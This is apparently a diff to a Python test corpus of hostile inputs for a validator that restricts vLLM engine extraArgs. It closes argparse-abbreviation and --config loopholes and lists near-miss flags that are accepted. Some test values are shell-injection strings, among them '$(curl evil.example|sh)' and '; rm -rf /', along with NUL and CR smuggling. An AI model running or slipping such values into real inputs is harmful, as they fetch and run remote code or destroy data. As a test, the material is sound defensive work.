@@ -60,10 +60,33 @@ POLICY: dict[str, Any] = {
 PATTERN = "does not match"
 TOO_LONG = "is too long"
 OWNED = EXTRA_ARG_NOT_OWNED.message
-ABBREVIATION_HOLE = (
-    "vLLM's argparse accepts unambiguous prefixes (allow_abbrev, vllm.md §2.1): "
-    "--max-num-seq=N sets --max-num-seqs; the owned-flag rule only matches whole names"
+NEAR_MISS_ARGS = (
+    "--max-logprobs=5",
+    "--max-loras=2",
+    "--max-seq-len-to-capture=8192",
+    "--max-num-active-seqs=64",
+    "--enforce-eager",
+    "--trust-remote-code",
+    "--disable-log-requests",
+    "--enable-chunked-prefill",
+    "--no-enable-chunked-prefill",
+    "--speculative-config",
+    '{"method": "ngram", "num_speculative_tokens": 3}',
+    "--compilation-config.level=3",
+    "--kv-transfer-config={}",
+    "--hf-config-path=/models/cfg",
+    "--config-format=hf",
+    "--model-impl=vllm",
+    "--model-loader-extra-config={}",
+    "--models-dir=/x",
+    "--portable",
+    "--max-model-lens",
+    "--seed=1",
+    "-O3",
+    "-pp=2",
 )
+"""Accepted: none of these is a prefix of an owned flag or of "config" (they are longer, or
+leave the owned name early), so argparse can never read one as an owned flag."""
 
 
 @dataclass(frozen=True)
@@ -142,22 +165,30 @@ CORPUS: tuple[Hostile, ...] = (
     _d("arg-kv-memory", "spec.engine", {"extraArgs": ["--kv-cache-memory=80G"]}, "cel", OWNED),
     _d("arg-model", "spec.engine", {"extraArgs": ["--model=evil/model"]}, "cel", OWNED),
     _d("arg-host", "spec.engine", {"extraArgs": ["--host=0.0.0.0"]}, "cel", OWNED),
+    # argparse's allow_abbrev: a prefix of a flag selects it (vllm.md §2.1), so every prefix of
+    # an owned flag is refused, in every spelling vLLM's parser accepts
+    _d("arg-abbrev-mns", "spec.engine", {"extraArgs": ["--max-num-seq=1"]}, "cel", OWNED),
     _d(
-        "arg-abbrev-mns",
-        "spec.engine",
-        {"extraArgs": ["--max-num-seq=1"]},
-        "cel",
-        OWNED,
-        ABBREVIATION_HOLE,
+        "arg-abbrev-mns-underscore", "spec.engine", {"extraArgs": ["--max_num_seq=1"]}, "cel", OWNED
     ),
-    _d(
-        "arg-abbrev-gmu",
-        "spec.engine",
-        {"extraArgs": ["--gpu-memory-util=0.99"]},
-        "cel",
-        OWNED,
-        ABBREVIATION_HOLE,
-    ),
+    _d("arg-abbrev-mns-split", "spec.engine", {"extraArgs": ["--max-num-seq", "1"]}, "cel", OWNED),
+    _d("arg-abbrev-mnbt", "spec.engine", {"extraArgs": ["--max-num-b=1"]}, "cel", OWNED),
+    _d("arg-abbrev-ambiguous", "spec.engine", {"extraArgs": ["--max-num=1"]}, "cel", OWNED),
+    _d("arg-abbrev-gmu", "spec.engine", {"extraArgs": ["--gpu-memory-util=0.99"]}, "cel", OWNED),
+    _d("arg-abbrev-gmu-split", "spec.engine", {"extraArgs": ["--gpu-mem", "0.99"]}, "cel", OWNED),
+    _d("arg-abbrev-kv-memory", "spec.engine", {"extraArgs": ["--kv-cache-mem=80G"]}, "cel", OWNED),
+    _d("arg-abbrev-tp", "spec.engine", {"extraArgs": ["--tensor-parallel=8"]}, "cel", OWNED),
+    _d("arg-abbrev-served", "spec.engine", {"extraArgs": ["--served=x"]}, "cel", OWNED),
+    _d("arg-abbrev-model", "spec.engine", {"extraArgs": ["--mod", "evil/model"]}, "cel", OWNED),
+    _d("arg-abbrev-no-prefix", "spec.engine", {"extraArgs": ["--no-enable-prefix"]}, "cel", OWNED),
+    _d("arg-dotted-knob", "spec.engine", {"extraArgs": ["--max-num-seqs.x=1"]}, "cel", OWNED),
+    _d("arg-tp-eq", "spec.engine", {"extraArgs": ["-tp=8"]}, "cel", OWNED),
+    _d("arg-tp-glued", "spec.engine", {"extraArgs": ["-tp8"]}, "cel", OWNED),
+    _d("arg-tp-abbrev", "spec.engine", {"extraArgs": ["-t", "8"]}, "cel", OWNED),
+    # --config FILE: the YAML file's keys become flags, so it could set any owned one
+    _d("arg-config-split", "spec.engine", {"extraArgs": ["--config", "x.yaml"]}, "cel", OWNED),
+    _d("arg-config-eq", "spec.engine", {"extraArgs": ["--config=x.yaml"]}, "cel", OWNED),
+    _d("arg-config-abbrev", "spec.engine", {"extraArgs": ["--conf=x.yaml"]}, "cel", OWNED),
     _d("arg-nul", "spec.engine", {"extraArgs": ["--x\x00--max-num-seqs=1"]}, "schema", PATTERN),
     _d("arg-cr", "spec.engine", {"extraArgs": ["--x\r--max-num-seqs=1"]}, "schema", PATTERN),
     _d("arg-huge", "spec.engine", {"extraArgs": ["--x=" + "a" * 300]}, "schema", TOO_LONG),
@@ -166,6 +197,14 @@ CORPUS: tuple[Hostile, ...] = (
     _d("arg-shell-semicolon", "spec.engine", {"extraArgs": ["--x=1; rm -rf /"]}, "inert", ""),
     _d("arg-shell-subst", "spec.engine", {"extraArgs": ["$(curl evil.example|sh)"]}, "inert", ""),
     _d("arg-shell-backticks", "spec.engine", {"extraArgs": ["`id` && echo"]}, "inert", ""),
+    # flags that share a stem with an owned one but abbreviate none of them (nor --config)
+    _d(
+        "arg-near-misses",
+        "spec.engine",
+        {"extraArgs": list(NEAR_MISS_ARGS)},
+        "inert",
+        "",
+    ),
     # ---- numbers: wrong types, negative, huge, not-a-number
     Hostile(
         "replicas-string",
